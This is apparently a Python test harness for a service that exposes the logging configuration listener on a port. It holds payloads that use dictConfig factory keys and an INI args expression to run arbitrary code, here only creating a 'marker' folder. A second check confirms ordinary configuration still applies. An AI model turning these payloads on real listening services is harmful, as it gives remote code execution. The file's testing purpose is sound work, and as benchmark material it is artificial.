"""Whoever reaches the port runs code in the service, for a configuration may call anything."""

import io
import json
import logging
import socket
import sys
from pathlib import Path

PAYLOADS = (
    {"version": 1, "formatters": {"x": {"()": "os.mkdir", "path": "marker"}}},
    {"version": 1, "handlers": {"x": {"()": "os.mkdir", "path": "marker"}}},
    (
        "[loggers]\nkeys=root\n[logger_root]\nhandlers=x\n[formatters]\nkeys=\n"
        "[handlers]\nkeys=x\n[handler_x]\nclass=StreamHandler\nargs=(__import__('os').mkdir('marker'),)\n"
    ),
)


def _send(module, message):
    """Start the service's listener on a free port, and send it a message."""
    sys.stderr = io.StringIO()  # the listener reports what it cannot read
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    module.listen(port).ready.wait(5)
    with socket.create_connection(("localhost", port), timeout=5) as line:
        line.sendall(message)
        line.recv(1)  # the listener hangs up when it is done


def exploit(module, payload):
    """Send a configuration that makes a folder."""
    text = payload if isinstance(payload, str) else json.dumps(payload)
    configuration = text.encode()
    _send(module, len(configuration).to_bytes(4, "big") + configuration)
    return Path("marker").is_dir()


def behaviour(module):
    """What operations send is applied."""
    configuration = {"version": 1, "disable_existing_loggers": False, "root": {"level": "ERROR"}}
    _send(module, module.packed(json.dumps(configuration).encode()))
    assert logging.getLogger().level == logging.ERROR
